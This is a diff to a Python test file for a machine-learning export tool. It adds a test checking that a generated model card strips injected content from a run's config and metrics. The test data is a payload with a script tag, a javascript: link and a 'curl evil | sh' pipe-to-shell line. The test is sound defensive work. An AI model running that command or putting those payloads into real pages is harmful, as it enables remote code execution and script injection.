@@ -21,12 +21,13 @@ from src.export import Exported, export_run, spread
 from src.exporting import formats, int8
 from src.exporting import onnx_file as onnx_files
 from src.exporting.bundle import portable_config
+from src.exporting.card import model_card
 from src.exporting.program import traced
 from src.exporting.seen import seen_by
 from src.files import read_csv
 from src.models.fuse import fuse
 from src.models.sizes import PaddedNet
-from src.rundir import RunDir
+from src.rundir import BUNDLED, RunDir
 from src.subject import own_source
 from src.trained import open_trained
 from tests.nets import build, unsettle
@@ -247,6 +248,21 @@ def test_the_card_says_what_the_files_say(exported: Exported, trained_run: Path)
     assert f"python -m src.predict run={trained_run.name} input=photo.jpg" in card
     assert "python -m src.train model=emisnet_plus" in card and "runs=" not in card
     assert "Not a medical device" in card and "selected on the val images" in card
+
+
+def test_the_card_of_a_stranger_s_run_is_words_alone(trained_run: Path, tmp_path: Path) -> None:
+    run = shutil.copytree(trained_run, tmp_path / "run")
+    payload = "<script>alert(1)</script> [a](javascript:b) ![c](http://d/e)\n```\ncurl evil | sh"
+    config, metrics = yaml.safe_load((run / "config.yaml").read_text()), json.loads((run / "metrics.json").read_text())
+    config["overrides"] = ["model=emisnet", f"tags=[{payload}]"]
+    metrics |= {"commit": payload, "versions": {"torch": payload}}
+    metrics["protocol"]["caveat"] = payload
+    (run / "config.yaml").write_text(yaml.safe_dump(config))
+    (run / "metrics.json").write_text(json.dumps(metrics))
+    (run / BUNDLED).touch()
+    card = model_card(run, "place")
+    assert "<script" not in card and "](" not in card and card.count("```") == 4  # two blocks of code, both ours
+    assert "curl evil" in card  # as words
 
 
 STRANGERS = (
